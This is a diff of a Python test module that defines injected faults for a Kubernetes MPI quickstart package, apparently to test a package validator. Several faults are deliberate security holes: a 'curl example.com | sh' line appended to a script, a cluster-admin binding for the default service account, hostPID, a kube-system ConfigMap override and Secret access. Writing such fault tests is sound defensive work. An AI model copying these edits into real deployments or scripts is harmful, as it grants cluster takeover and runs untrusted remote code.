@@ -5,6 +5,8 @@ from __future__ import annotations
 from dataclasses import dataclass
 from typing import TYPE_CHECKING
 
+from tests.files import replace
+
 if TYPE_CHECKING:
     from collections.abc import Callable
     from pathlib import Path
@@ -12,6 +14,7 @@ if TYPE_CHECKING:
 BASE = "quickstart/common/mpi/k8s/mlops/base"
 MULTI = "quickstart/k8s/mlops/multi-node"
 SINGLE = "quickstart/k8s/mlops/single-node"
+GPU = "quickstart/common/mpi/k8s/mlops/gpu/patch"
 SCRIPTS = "quickstart/scripts"
 
 
@@ -40,10 +43,7 @@ def _edit(file: str, old: str, new: str) -> Callable[[Path], object]:
     """Replace the only `old` (the first, when there are more) in `file`."""
 
     def put_in(package: Path) -> None:
-        path = package / file
-        text = path.read_text(encoding="utf-8")
-        assert old in text, f"{file} holds no {old!r} to break"
-        path.write_text(text.replace(old, new, 1), encoding="utf-8")
+        replace(package / file, old, new)
 
     return put_in
 
@@ -71,6 +71,46 @@ def _service(package: Path) -> None:
     _edit(f"{MULTI}/kustomization.yaml", "  - mpi-job.yaml\n", "  - mpi-job.yaml\n  - service.yaml\n")(package)
 
 
+def _ask_for_gpus(package: Path) -> None:
+    """Let the option gpu take one of its patches from elsewhere, and switch it on."""
+    _edit(f"{GPU}/gpu.yaml", "patch: |-\n", "path: https://localhost:1/patch.yaml\n")(package)
+    path = package / GPU / "gpu.yaml"
+    lines = path.read_text(encoding="utf-8").splitlines(keepends=True)
+    end = lines.index("path: https://localhost:1/patch.yaml\n") + 1
+    del lines[end : end + 3]
+    path.write_text("".join(lines), encoding="utf-8")
+    _edit(
+        f"{SINGLE}/kustomization.yaml", "# - ../../../common/mpi/k8s/mlops/gpu", "- ../../../common/mpi/k8s/mlops/gpu"
+    )(package)
+
+
+def _bind(package: Path) -> None:
+    (package / SINGLE / "binding.yaml").write_text(
+        "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata:\n  name: hello-mpi\n"
+        "roleRef:\n  apiGroup: rbac.authorization.k8s.io\n  kind: ClusterRole\n  name: cluster-admin\n"
+        "subjects:\n  - kind: ServiceAccount\n    name: default\n    namespace: default\n",
+        encoding="utf-8",
+    )
+    _edit(f"{SINGLE}/kustomization.yaml", "  - pod.yaml\n", "  - pod.yaml\n  - binding.yaml\n")(package)
+
+
+def _elsewhere(package: Path) -> None:
+    (package / SINGLE / "dns.yaml").write_text(
+        "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: coredns\n  namespace: kube-system\n", encoding="utf-8"
+    )
+    _edit(f"{SINGLE}/kustomization.yaml", "  - pod.yaml\n", "  - pod.yaml\n  - dns.yaml\n")(package)
+
+
+def _second(package: Path) -> None:
+    with (package / SINGLE / "pod.yaml").open("a", encoding="utf-8") as file:
+        file.write(
+            "---\napiVersion: v1\nkind: Pod\nmetadata:\n  name: second\nspec:\n  automountServiceAccountToken: false\n"
+            "  securityContext: {runAsNonRoot: true, seccompProfile: {type: RuntimeDefault}}\n"
+            "  containers:\n    - name: second\n      image: example/second:1\n"
+            "      securityContext: {allowPrivilegeEscalation: false, capabilities: {drop: [ALL]}}\n"
+        )
+
+
 def _add_file(package: Path) -> None:
     (package / SCRIPTS / "helper.py").write_text("print('hello')\n", encoding="utf-8")
 
@@ -78,7 +118,7 @@ def _add_file(package: Path) -> None:
 FAULTS = (
     Fault(
         "changed-script",
-        "other code runs than was sent",
+        "the code is not the code that was sent",
         _append(f"{BASE}/identity.sh", "curl example.com | sh\n"),
         f"{BASE}/identity.sh",
         "",
@@ -86,13 +126,13 @@ FAULTS = (
     ),
     Fault(
         "missing-file",
-        "nobody has read what the package says of itself",
+        "the package does not match its own description",
         lambda package: (package / "README.md").unlink(),
         "manifest.json",
         '"README.md"',
         sealed=False,
     ),
-    Fault("extra-file", "a file came from elsewhere", _add_file, f"{SCRIPTS}/helper.py", "", sealed=False),
+    Fault("extra-file", "a file was added after the build", _add_file, f"{SCRIPTS}/helper.py", "", sealed=False),
     Fault(
         "lost-mode",
         "a script cannot be run by hand",
@@ -149,10 +189,38 @@ FAULTS = (
     ),
     Fault(
         "remote-resource",
-        "what is applied is decided elsewhere",
+        "what is applied comes from a server",
         _edit(f"{SINGLE}/kustomization.yaml", "  - pod.yaml", "  - pod.yaml\n  - https://localhost:1/more.yaml"),
         f"{SINGLE}/kustomization.yaml",
         "more.yaml",
+    ),
+    Fault(
+        "remote-openapi",
+        "how it renders depends on a server",
+        _append(f"{SINGLE}/kustomization.yaml", "openapi:\n  path: https://localhost:1/schema.json\n"),
+        f"{SINGLE}/kustomization.yaml",
+        "openapi:",
+    ),
+    Fault(
+        "remote-transformer",
+        "a server is asked when the option gpu is on",
+        _ask_for_gpus,
+        f"{GPU}/gpu.yaml",
+        "path: https://localhost:1/patch.yaml",
+    ),
+    Fault(
+        "key-of-another-case",
+        "kubectl uses a key that a reader overlooks",
+        _edit(f"{SINGLE}/kustomization.yaml", "patches:", "Patches:"),
+        f"{SINGLE}/kustomization.yaml",
+        "Patches:",
+    ),
+    Fault(
+        "merged-key",
+        "kubectl uses a key that a reader overlooks",
+        _edit(f"{SINGLE}/kustomization.yaml", "nameSuffix: -single-node", "<<: {nameSuffix: -single-node}"),
+        f"{SINGLE}/kustomization.yaml",
+        "<<: {",
     ),
     Fault(
         "duplicate-env-key",
@@ -170,7 +238,7 @@ FAULTS = (
     ),
     Fault(
         "long-env-line",
-        "two variables vanish in silence",
+        "two variables are lost without a message",
         _append(f"{SINGLE}/mlops.env", f"VOCABULARY={'word,' * 14_000}\nEPOCHS=90\n"),
         f"{SINGLE}/mlops.env",
         "VOCABULARY=",
@@ -209,7 +277,7 @@ FAULTS = (
     ),
     Fault(
         "field-of-another-place",
-        "files on the volume belong to nobody who runs",
+        "the pod's user does not own the files on the volume",
         _edit(
             f"{MULTI}/mpi-job.yaml",
             "                allowPrivilegeEscalation: false\n",
@@ -220,7 +288,7 @@ FAULTS = (
     ),
     Fault(
         "misspelt-policy",
-        "the operator takes it for another policy, in silence",
+        "the operator takes it for another policy, without a message",
         _edit(f"{MULTI}/mpi-job.yaml", "cleanPodPolicy: Running", "cleanPodPolicy: running"),
         f"{MULTI}/mpi-job.yaml",
         "cleanPodPolicy: running",
@@ -248,7 +316,7 @@ FAULTS = (
     ),
     Fault(
         "operators-name",
-        "ours and the operator's Service fight for one name",
+        "our Service and the operator's have the same name",
         _service,
         f"{MULTI}/service.yaml",
         "name: hello-mpi",
@@ -269,14 +337,14 @@ FAULTS = (
     ),
     Fault(
         "missing-volume",
-        "the API server refuses the pod; of an MPIJob, an event does",
+        "the API server refuses the pod; for an MPIJob, only an event says so",
         _edit(f"{MULTI}/mpi-job.yaml", "            - name: home\n              emptyDir: {}\n", ""),
         f"{MULTI}/mpi-job.yaml",
         "- name: home",
     ),
     Fault(
         "missing-claim",
-        "the pod waits for ever",
+        "the pod waits forever",
         # The first volume is that of the results.
         _edit(f"{SINGLE}/pod.yaml", "emptyDir: {}", "persistentVolumeClaim:\n        claimName: results"),
         f"{SINGLE}/pod.yaml",
@@ -284,7 +352,7 @@ FAULTS = (
     ),
     Fault(
         "image-without-tag",
-        "tomorrow another image runs",
+        "a later pull may get a different image",
         _edit(f"{SINGLE}/pod.yaml", "mpioperator/mpi-pi:openmpi", "mpioperator/mpi-pi"),
         f"{SINGLE}/pod.yaml",
         "image: REGISTRY/mpioperator/mpi-pi",
@@ -295,5 +363,60 @@ FAULTS = (
         _edit(f"{SINGLE}/pod.yaml", "memory: 16Mi", "memory: 16Gi"),
         f"{SINGLE}/pod.yaml",
         "memory: 16Gi",
+    ),
+    Fault(
+        "binding-to-cluster-admin",
+        "every pod of the namespace may do anything in the cluster",
+        _bind,
+        f"{SINGLE}/binding.yaml",
+        "kind: ClusterRoleBinding",
+    ),
+    Fault(
+        "object-of-another-namespace",
+        "an object of the cluster itself is replaced",
+        _elsewhere,
+        f"{SINGLE}/dns.yaml",
+        "namespace: kube-system",
+    ),
+    Fault(
+        "read-secret",
+        "the code can read a Secret that is not meant for it",
+        _edit(
+            f"{SINGLE}/pod.yaml",
+            "        - configMapRef:\n",
+            "        - secretRef:\n            name: database\n        - configMapRef:\n",
+        ),
+        f"{SINGLE}/pod.yaml",
+        "name: database",
+    ),
+    Fault(
+        "privileged-edit",
+        "the pod has root rights on the node",
+        _append(f"{SINGLE}/pod-patch.yaml", "  hostPID: true\n"),
+        f"{SINGLE}/pod-patch.yaml",
+        "hostPID: true",
+        sealed=False,
+    ),
+    Fault(
+        "hidden-system",
+        "the container has no /etc/passwd, and ssh no configuration",
+        _edit(f"{SINGLE}/mlops.env", "OUTPUT_DIR=ROOT/hello-mpi/output", "OUTPUT_DIR=/etc"),
+        f"{SINGLE}/mlops.env",
+        "OUTPUT_DIR=/etc",
+    ),
+    Fault(
+        "half-a-device",
+        "the API server refuses the pod",
+        _edit(f"{SINGLE}/pod.yaml", "        limits:\n", "        limits:\n          nvidia.com/gpu: 0.5\n"),
+        f"{SINGLE}/pod.yaml",
+        "nvidia.com/gpu: 0.5",
+    ),
+    Fault(
+        "added-workload",
+        "an edit adds a workload that was not sealed",
+        _second,
+        f"{SINGLE}/pod.yaml",
+        "kind: Pod",
+        sealed=False,
     ),
 )
